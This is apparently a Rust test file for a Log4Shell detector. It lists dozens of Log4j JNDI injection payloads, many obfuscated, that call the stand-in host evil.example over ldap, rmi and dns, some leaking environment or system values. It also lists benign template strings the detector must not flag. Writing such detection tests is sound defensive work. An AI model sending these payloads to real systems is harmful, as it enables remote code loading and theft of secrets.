use super::super::properties::check_properties;
use super::super::tests::{check_table, confidence};
use super::super::{Context, Detector, Place};

const ATTACKS: &[&str] = &[
    "${jndi:ldap://a...b/x}",
    "${jndi:ldap://${env:X}.../a}",
    "${${lower:j}ndi:ldap://...}",
    "${jndi:ldap://evil.example/a}",
    "${jndi:ldaps://evil.example/a}",
    "${jndi:rmi://evil.example:1099/a}",
    "${jndi:dns://evil.example}",
    "${jndi:iiop://evil.example/a}",
    "${jndi:corba://x}",
    "${jndi:nis://x}",
    "${jndi:nds://x}",
    "${jndi:http://x}",
    "${jndi:ldap:${lower:/}/evil.example/a}",
    "${JNDI:LDAP://EVIL.EXAMPLE/a}",
    "${ jndi:ldap://evil.example/a}",
    "${jndi:ldap://127.0.0.1#evil.example/a}",
    "${jndi:ldap://${env:USER}.evil.example/a}",
    "${jndi:ldap://${sys:java.version}.evil.example}",
    "${${lower:j}ndi:${lower:l}dap://evil.example/a}",
    "${${lower:j}${lower:n}${lower:d}i:${lower:rmi}://evil.example/a}",
    "${${upper:j}ndi:ldap://evil.example/a}",
    "${jnd${upper:\u{131}}:ldap://evil.example/a}",
    "${${::-j}${::-n}${::-d}${::-i}:rmi://evil.example/a}",
    "${${::-j}ndi:${::-l}${::-d}${::-a}${::-p}://evil.example/a}",
    "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//evil.example/a}",
    "${${env:BARFOO:-j}ndi:ldap://evil.example/a}",
    "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:${date:'l'}dap://evil.example/a}",
    "${j${k8s:k5:-ND}i:ldap://evil.example/a}",
    "${j${main:\\k5:-Nd}i${spring:k5:-:}ldap://evil.example/a}",
    "${j${sys:k5:-nD}${lower:i${web:k5:-:}}ldap://evil.example/a}",
    "${j${::-nD}i${::-:}ldap://evil.example/a}",
    "${j${EnV:K5:-nD}i:ldap://evil.example/a}",
    "${j${loWer:Nd}i${uPper::}ldap://evil.example/a}",
    "${${lower:${lower:${lower:j}}}ndi:ldap://evil.example/a}",
    "${${base64:am5kaTpsZGFwOi8vZXZpbA==}}",
    "${base64:JHtqbmRpOmxkYXA6Ly9ldmlsfQ==}${jndi:ldap://a/b}",
    "$${jndi:ldap://evil.example/a}",
    "%{jndi:ldap://evil.example/a}",
    "${jndi:ldap://evil.example/a",
    "${${a:-j}ndi:ldap://evil.example/a}",
    "${x:-jndi:ldap://evil.example/a}",
    "${::-${jndi:ldap://evil.example/a}}",
    "Mozilla/5.0 ${jndi:ldap://evil.example/a}",
    "() ${jndi:ldap://evil.example/a} x",
    "${jndi:java:comp/env}",
    "${jndi:${lower:l}${lower:d}ap://evil.example/a}",
    "jndi:ldap://evil.example/a",
    "${${what:ever:-j}${some:thing:-n}${other:thing:-d}${and:last:-i}:ldap://evil.example}",
];

const HONEST: &[&str] = &[
    "${jndi:ldap://...} 的原理",
    "${jndi:rmi://...}",
    "log4j ${jndi:ldap} 漏洞怎么修复",
    "${jndi:rmi}",
    "${name}",
    "${amount}",
    "${env}",
    "${user.name}",
    "Hello ${name}, your balance: ${amount}",
    "${item:id}",
    "${price:0.00}",
    "`${a}:${b}`",
    "${a ? b : c}",
    "${x:-1}",
    "$100:200",
    "{a:b}",
    "{\"a\":{\"b\":1}}",
    "%{name}",
    "%{TIMESTAMP_ISO8601:time}",
    "#{id}:#{name}",
    "{{name}}",
    "jndi 是什么",
    "JNDI lookup failed",
    "jndi.properties",
    "java:comp/env/jdbc/ds",
    "ldap://",
    "ldap directory: users",
    "$: {x}",
    "${}",
    "${:}",
    "${",
    "${${",
    "${a${b}c}",
    "cost: ${price}",
    "style: ${style} ; class: ${cls}",
    "var a={b:1};c=`${d}`",
    "${date}",
    "time: 08:30",
    "a:{b:{c:1}}",
    "lower: 1, upper: 2",
    "${lower}",
    "${upper}:${lower}",
    "function(){return {a:1}}",
    "%{a:b}",
    "${spring.datasource.url}",
];

#[test]
fn lookups_are_confirmed_once_evaluated() {
    check_table(Detector::Jndi, Context::of(Place::Value), 80, ATTACKS, HONEST);
}

#[test]
fn a_lookup_of_the_environment_counts_but_does_not_block() {
    for value in ["${env:AWS_SECRET_ACCESS_KEY}", "${java:version}", "${sys:user.dir}"] {
        let sure = confidence(Detector::Jndi, value.as_bytes(), Context::of(Place::Header));
        assert!((40..80).contains(&sure), "{sure} for {value}");
    }
}

#[test]
fn jndi_findings_meet_the_requirement_in_linear_work() {
    check_properties(
        Detector::Jndi,
        &[
            "${",
            "}",
            "jndi:",
            "ldap://",
            "${lower:",
            "${upper:",
            "${::-",
            "${env:X:-",
            ":-",
            ":",
            "j",
            "ndi",
            "${date:'",
            "'",
            "%{",
            "$",
            "{",
            "${${${${${${${${${${${${",
            "${base64:",
            "am5kaTo=",
            "\u{131}",
            "\n",
            "x",
        ],
    );
}
